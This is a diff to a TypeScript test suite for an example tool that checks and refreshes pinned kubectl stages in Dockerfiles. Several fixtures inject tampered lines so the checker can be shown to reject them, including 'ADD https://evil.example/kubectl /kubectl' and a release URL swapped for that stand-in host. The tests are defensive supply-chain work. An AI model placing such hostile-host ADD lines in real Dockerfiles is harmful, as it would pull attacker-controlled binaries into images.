@@ -16,6 +16,9 @@ afterAll(async () => {
   await world.close();
 });
 
+const check = ['sh', example('dockerfile/check-stages.sh')] as const;
+const refresh = ['sh', example('dockerfile/refresh-stages.sh')] as const;
+
 interface Manager {
   readonly files: readonly string[];
   readonly patterns: readonly string[];
@@ -83,14 +86,14 @@ describe.skipIf(process.platform !== 'linux')('the bot of examples/lock (needs L
     const printed = await runs(['k8s-verify', 'digest', 'kubectl', VERSION, '--format', 'dockerfile'], 0);
     const around = ['# of the image\n', '\nFROM debian:stable-slim\nCOPY --from=kubectl /kubectl /kubectl\n'];
     writeFileSync(file, around.join(printed));
-    await runs([example('dockerfile/check-stages.sh'), file], 0);
+    await runs([...check, file, world.releases.url], 0);
     const { found, text } = bumped('Dockerfile', readFileSync(file, 'utf8'));
     expect(found).toEqual([VERSION]);
     writeFileSync(file, text);
-    await runs([example('dockerfile/check-stages.sh'), file], 1);
+    await runs([...check, file, world.releases.url], 1);
     await world.publish(NEXT);
-    await runs([example('dockerfile/refresh-stages.sh'), file], 0);
-    await runs([example('dockerfile/check-stages.sh'), file], 0);
+    await runs([...refresh, file], 0);
+    await runs([...check, file, world.releases.url], 0);
     const refreshed = readFileSync(file, 'utf8');
     expect(refreshed).toContain(`/release/${NEXT}/bin/`);
     expect(refreshed).not.toContain(VERSION);
@@ -120,9 +123,65 @@ describe.skipIf(process.platform !== 'linux')('the bot of examples/lock (needs L
     expect(shown).toContain('COPY --from=kubectl /kubectl /usr/local/bin/kubectl');
   });
 
+  describe('stages that do not stand as they were printed', () => {
+    let printed: string;
+    const file = (): string => world.dir.join('Odd');
+    beforeAll(async () => {
+      printed = await runs(['k8s-verify', 'digest', 'kubectl', VERSION, '--format', 'dockerfile'], 0);
+    });
+    const REST = '\nFROM debian:stable-slim\nCOPY --from=kubectl /kubectl /kubectl\n';
+
+    const without = (line: RegExp): string => printed.replace(line, '');
+    it.each<[string, () => string]>([
+      ['a line of them is gone', () => without(/^ADD .*\n/m)],
+      ['the stage that chooses is gone', () => without(/^FROM kubectl-\$.*\n/m)],
+      ['a word is in lower case', () => printed.replace(/^ADD /m, 'add ')],
+      ['a line is continued', () => printed.replace(/^ADD (\S+) /m, 'ADD $1 \\\n  ')],
+      [
+        'something is added to the last of them',
+        () => `${printed}ADD https://evil.example/kubectl /kubectl\n`,
+      ],
+    ])('fail and are left alone where %s', async (_, text) => {
+      writeFileSync(file(), text() + REST);
+      const before = readFileSync(file(), 'utf8');
+      await runs([...check, file(), world.releases.url], 1);
+      await runs([...refresh, file()], 1);
+      expect(readFileSync(file(), 'utf8')).toBe(before);
+    });
+
+    it('fail where they come from another host, and where a later stage has the name of one', async () => {
+      writeFileSync(file(), printed.replaceAll(world.releases.url, 'https://evil.example') + REST);
+      await runs([...check, file(), world.releases.url], 1);
+      writeFileSync(file(), `${printed}\nFROM evil as Kubectl\n${REST}`);
+      await runs([...check, file(), world.releases.url], 1);
+    });
+
+    it('are printed again without their last comment, and what is below stays', async () => {
+      writeFileSync(file(), without(/^# then, .*\n/m) + REST);
+      await runs([...check, file(), world.releases.url], 0);
+      await runs([...refresh, file()], 0);
+      expect(readFileSync(file(), 'utf8')).toBe(printed + REST);
+    });
+
+    it('are printed again for each block by itself, also for two of one component', async () => {
+      await world.publish(NEXT);
+      const other = await runs(['k8s-verify', 'digest', 'kubectl', NEXT, '--format', 'dockerfile'], 0);
+      const both = `${printed}\n${other}${REST}`;
+      writeFileSync(file(), both);
+      await runs([...refresh, file()], 0);
+      expect(readFileSync(file(), 'utf8')).toBe(both);
+    });
+
+    it('are left alone where an option makes k8s-verify print something else', async () => {
+      writeFileSync(file(), printed + REST);
+      await runs([...refresh, file(), '--help'], 1);
+      expect(readFileSync(file(), 'utf8')).toBe(printed + REST);
+    });
+  });
+
   it('has nothing to check in a file without stages', async () => {
     writeFileSync(world.dir.join('Other'), 'FROM debian:stable-slim\n');
-    expect(await runs([example('dockerfile/check-stages.sh'), world.dir.join('Other')], 1)).toBe('');
+    expect(await runs([...check, world.dir.join('Other')], 1)).toBe('');
   });
 });
 
